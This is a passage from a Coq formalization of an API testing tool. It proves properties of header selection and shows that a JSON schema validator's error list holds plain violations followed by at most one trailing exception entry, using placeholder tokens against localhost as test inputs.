              {| base_url := "http://localhost:8000"; results := [];
                 auth_config := [("type", JStr "bearer"); ("token", JStr "abc")];
                 timeout := 10; analyzer_on := false |}
              (Some [("Authorization", JStr "Basic xyz");
                     ("Content-Type", JStr "text/plain"); ("X-Trace", JStr "1")])
              eq_refl) as [Hname _].
  destruct (headers_by_priority (H := plain_builtins)
              {| base_url := "http://localhost:8000"; results := [];
                 auth_config := [("type", JStr "api_key"); ("api_key", JStr "secret");
                                 ("key_name", JInt 7)];
                 timeout := 10; analyzer_on := false |}
              None eq_refl) as [_ Hkey].
  split; [exact (Hname "Authorization") |].
  split; [exact (Hname "Content-Type") |].
  exact (proj2 (Hkey (JInt 7) (JStr "secret") eq_refl)).
Defined.

(** ** The shape of the list of schema violations *)

Section ValidatorErrors.
Context `{Builtins}.

Lemma validate_field_plain (value schema p : json) (errs : list SchemaViolation) :
  validate_field value schema p = Ok errs -> Forall plain_violation errs.
Proof.
  unfold validate_field.
  destruct (py_get schema "type" JNull) as [t | e]; [| discriminate]. cbn [bind].
  repeat (match goal with
          | |- (if ?c then _ else _) = _ -> _ => destruct c
          end);
    intros [= <-]; repeat constructor.
Qed.

Lemma check_required_plain (required : list json) (fields : dict) :
  Forall plain_violation (fst (check_required required fields)).
Proof.
  induction required as [| r required IH]; cbn [check_required]; [constructor |].
  unfold lift, lbind.
  destruct (py_in_dict r fields) as [[|] | e]; cbn [fst app append_errors lret];
    try constructor.
  - destruct (check_required required fields) as [errs res]. exact IH.
  - destruct (check_required required fields) as [errs res]. cbn [fst app] in *.
    constructor; [now right | exact IH].
Qed.

Lemma check_properties_plain (items fields : dict) :
  Forall plain_violation (fst (check_properties items fields)).
Proof.
  induction items as [| [f fs] items IH]; cbn [check_properties]; [constructor |].
  destruct (dict_get f fields) as [value |].
  - unfold lift, lbind, append_errors.
    destruct (validate_field value fs (JStr f)) as [errs | e] eqn:E;
      cbn [fst app]; [| constructor].
    destruct (check_properties items fields) as [errs' res]. cbn [fst] in *.
    rewrite ?app_nil_l. apply Forall_app. split; [| exact IH].
    exact (validate_field_plain _ _ _ _ E).
  - unfold lbind, lret.
    destruct (check_properties items fields) as [errs' res]. exact IH.
Qed.

Lemma validation_try_plain (data schema : json) :
  Forall plain_violation (fst (validate_against_schema_try data schema)).
Proof.
  unfold validate_against_schema_try, lift, lbind.
  destruct (py_get schema "type" JNull) as [t | e]; cbn [fst]; [| constructor].
  destruct (py_eq t (JStr "object")).
  - destruct data as [ | b | n | x | s | xs | fields ];
      try (cbn; repeat constructor).
    destruct (py_get schema "required" (JArr [])) as [required | e];
      cbn [fst app]; [| constructor].
    destruct (py_iter required) as [required_fields | e]; cbn [fst app]; [| constructor].
    pose proof (check_required_plain required_fields fields) as Hr.
    destruct (check_required required_fields fields) as [errs [[] | e]];
      cbn [fst app] in *; [| exact Hr].
    destruct (py_get schema "properties" (JObj [])) as [properties | e];
      cbn [fst app]; [| now rewrite app_nil_r].
    destruct (py_items properties) as [items | e]; cbn [fst app];
      [| now rewrite app_nil_r].
    pose proof (check_properties_plain items fields) as Hp.
    destruct (check_properties items fields) as [perrs res]. cbn [fst app] in *.
    apply Forall_app. split; assumption.
  - destruct (py_eq t (JStr "array")); [| constructor].
    destruct (isinstance_list data); cbn; repeat constructor.
Qed.

(** X17.  [validate_against_schema] never raises, and an exception cuts the
    check short without losing what was found: for every data and schema
    the list returned is made of type mismatches and missing required
    fields, followed by at most one [validation_error], which is then the
    last entry. *)
Theorem schema_errors_end_the_list :
  forall (data schema : json),
    exists errs,
      Forall plain_violation errs
      /\ (validate_against_schema data schema = errs
          \/ exists e, validate_against_schema data schema
                       = errs ++ [validation_error e]).
Proof.
  intros data schema. unfold validate_against_schema.
  pose proof (validation_try_plain data schema) as Hp.
  destruct (validate_against_schema_try data schema) as [errs [[] | e]];
    cbn [fst] in Hp; exists errs; (split; [exact Hp |]).
  - now left.
  - right. now exists e.
Qed.
End ValidatorErrors.
